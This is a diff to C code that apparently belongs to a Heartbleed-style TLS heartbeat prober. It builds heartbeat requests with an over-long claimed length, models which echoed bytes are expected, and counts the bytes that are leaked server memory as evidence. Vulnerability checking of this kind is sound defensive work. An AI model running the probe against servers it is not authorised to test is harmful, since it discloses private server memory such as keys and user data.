@@ -19,8 +19,9 @@ static uint64_t mix64(uint64_t x)
 int hb_plan_init(struct hb_plan *p, uint64_t nonce, uint16_t sentinel_len,
     uint16_t probe_len, uint16_t k)
 {
-	if (probe_len == 0 || (uint32_t)probe_len + k > 0xffff ||
-	    sentinel_len == 0)
+	/* A flight needs one request at least, and a claim needs a probe. */
+	if ((probe_len == 0 && (k > 0 || sentinel_len == 0)) ||
+	    (uint32_t)probe_len + k > 0xffff)
 		return -1;
 	memset(p, 0, sizeof(*p));
 	p->nonce = nonce;
@@ -39,16 +40,64 @@ uint8_t hb_payload_byte(const struct hb_plan *p, int which, size_t i)
 	return (uint8_t)(w >> ((i & 7) * 8));
 }
 
-int hb_expected_tail(const struct hb_plan *p, size_t off)
+int hb_expected_tail(const struct hb_plan *p, enum hb_tail_model m,
+    size_t off)
 {
-	size_t at = (size_t)p->probe_len + off;
+	size_t at;
 
-	if (at < p->sentinel_len)
-		return hb_payload_byte(p, 0, at);
-	/* The sentinel's own padding follows its payload in the buffer. */
-	if (at < (size_t)p->sentinel_len + HB_MIN_PADDING)
-		return HB_PADDING_BYTE;
-	return -1;
+	switch (m) {
+	case HB_TAIL_STALE:
+		if (p->sentinel_len == 0)
+			return -1;
+		at = (size_t)p->probe_len + off;
+		if (at < p->sentinel_len)
+			return hb_payload_byte(p, 0, at);
+		/* The sentinel's own padding follows its payload. */
+		if (at < (size_t)p->sentinel_len + HB_MIN_PADDING)
+			return HB_PADDING_BYTE;
+		return -1;
+	case HB_TAIL_FOLLOW:
+		if (p->fence_len == 0)
+			return -1;
+		switch (off) {
+		case 0: return TLS_CT_APPDATA;
+		case 1: return p->rec_ver >> 8;
+		case 2: return p->rec_ver & 0xff;
+		case 3: return p->fence_len >> 8;
+		case 4: return p->fence_len & 0xff;
+		default: break;
+		}
+		if (off - TLS_HDR_LEN < p->fence_len)
+			return hb_payload_byte(p, 3, off - TLS_HDR_LEN);
+		return -1;
+	case HB_TAIL_HELLO:
+		if (p->pad_len == 0)
+			return -1;
+		/* The probe record's header, type and length, its payload,
+		 * then the stale hello at the same record offset. */
+		at = TLS_HDR_LEN + 3 + (size_t)p->probe_len + off;
+		if (at >= p->pad_at && at - p->pad_at < p->pad_len)
+			return hb_payload_byte(p, 2, at - p->pad_at);
+		return -1;
+	default:
+		return -1;
+	}
+}
+
+ssize_t hb_appdata_record(const struct hb_plan *p, uint16_t ver, size_t n,
+    uint8_t *out, size_t cap)
+{
+	size_t i;
+	int ours = p->fence_len != 0 && n == p->fence_len;
+
+	if (n == 0 || n > TLS_MAX_RECORD || cap < TLS_HDR_LEN + n)
+		return -1;
+	out[0] = TLS_CT_APPDATA;
+	wr_u16(out + 1, ver);
+	wr_u16(out + 3, (uint16_t)n);
+	for (i = 0; i < n; i++)
+		out[TLS_HDR_LEN + i] = ours ? hb_payload_byte(p, 3, i) : 0;
+	return (ssize_t)(TLS_HDR_LEN + n);
 }
 
 ssize_t hb_request_record(const struct hb_plan *p, int which, uint16_t ver,
@@ -91,13 +140,12 @@ ssize_t hb_flight_tls(const struct hb_plan *p, uint16_t ver, int fence,
 		return -1;
 	n = (size_t)(a + b);
 	if (fence) {
-		if (cap - n < TLS_HDR_LEN + 1)
+		ssize_t f = hb_appdata_record(p, ver, p->fence_len ?
+		    p->fence_len : 1, out + n, cap - n);
+
+		if (f < 0)
 			return -1;
-		out[n] = TLS_CT_APPDATA;
-		wr_u16(out + n + 1, ver);
-		wr_u16(out + n + 3, 1);
-		out[n + 5] = 0;
-		n += TLS_HDR_LEN + 1;
+		n += (size_t)f;
 	}
 	return (ssize_t)n;
 }
@@ -110,10 +158,11 @@ static void msg_reset(struct hb_reader *r)
 	r->off = 0;
 	r->pad_have = 0;
 	r->match_sentinel = 1;
-	r->match_probe = 1;
-	r->tail_known = 0;
-	r->tail_mism = 0;
-	r->tail_unknown = 0;
+	/* A plan without a probe (a lone valid heartbeat) matches none. */
+	r->match_probe = r->plan && r->plan->probe_len > 0;
+	r->tail_len = 0;
+	memset(r->tail_known, 0, sizeof(r->tail_known));
+	memset(r->tail_mism, 0, sizeof(r->tail_mism));
 }
 
 void hb_reader_init(struct hb_reader *r, const struct hb_plan *p)
@@ -121,6 +170,27 @@ void hb_reader_init(struct hb_reader *r, const struct hb_plan *p)
 	memset(r, 0, sizeof(*r));
 	r->plan = p;
 	msg_reset(r);
+}
+
+/* Over-read bytes of the finished echo that were server memory, under the
+ * model that explains the most of it.  Where one byte differs from a
+ * model's copy, the buffer was not that copy: every byte of the tail counts
+ * then, even those that match by chance. */
+static uint32_t tail_disclosed(struct hb_reader *r)
+{
+	uint32_t best = r->tail_len, d;
+	int m;
+
+	for (m = 0; m < HB_TAIL_MODELS; m++) {
+		d = r->tail_mism[m] ? r->tail_len :
+		    r->tail_len - r->tail_known[m];
+		if (d < best || (d == best && r->tail_known[m] >
+		    r->tail_known[r->proof_model])) {
+			best = d;
+			r->proof_model = (uint8_t)m;
+		}
+	}
+	return best;
 }
 
 /* Judges a response whose payload has been read in full. */
@@ -134,17 +204,15 @@ static void msg_judge(struct hb_reader *r)
 		r->requests_seen = 1;
 		return;
 	}
-	if (r->len == p->sentinel_len && r->match_sentinel)
+	if (p->sentinel_len > 0 && r->len == p->sentinel_len &&
+	    r->match_sentinel)
 		r->sentinel_echoed = 1;
-	else if (r->len == (uint32_t)p->probe_len + p->k && r->match_probe &&
-	    p->k > 0) {
+	else if (p->k > 0 && r->match_probe &&
+	    r->len == (uint32_t)p->probe_len + p->k) {
 		r->probe_echoed = 1;
-		/* Where one byte is not our stale copy, the buffer was not
-		 * ours: every byte of it is server memory, even those that
-		 * match by chance. */
-		r->disclosed += r->tail_unknown +
-		    (r->tail_mism ? r->tail_known : 0);
-	} else if (r->len == p->probe_len && r->match_probe)
+		r->disclosed += tail_disclosed(r);
+	} else if (p->probe_len > 0 && r->len == p->probe_len &&
+	    r->match_probe)
 		r->lax_echoed = 1;
 	else
 		r->foreign = 1;
@@ -155,6 +223,7 @@ static void msg_compare(struct hb_reader *r, const uint8_t *b, size_t n)
 {
 	const struct hb_plan *p = r->plan;
 	size_t i, tail_from = n;
+	int m;
 
 	for (i = 0; i < n; i++) {
 		size_t at = r->off + i;
@@ -172,13 +241,15 @@ static void msg_compare(struct hb_reader *r, const uint8_t *b, size_t n)
 		}
 		if (tail_from == n)
 			tail_from = i;
-		exp = hb_expected_tail(p, at - p->probe_len);
-		if (exp < 0) {
-			r->tail_unknown++;
-		} else {
-			r->tail_known++;
+		r->tail_len++;
+		for (m = 0; m < HB_TAIL_MODELS; m++) {
+			exp = hb_expected_tail(p, (enum hb_tail_model)m,
+			    at - p->probe_len);
+			if (exp < 0)
+				continue;
+			r->tail_known[m]++;
 			if (b[i] != (uint8_t)exp)
-				r->tail_mism++;
+				r->tail_mism[m]++;
 		}
 	}
 	/* The whole over-read goes to the evidence hook, ours or not. */
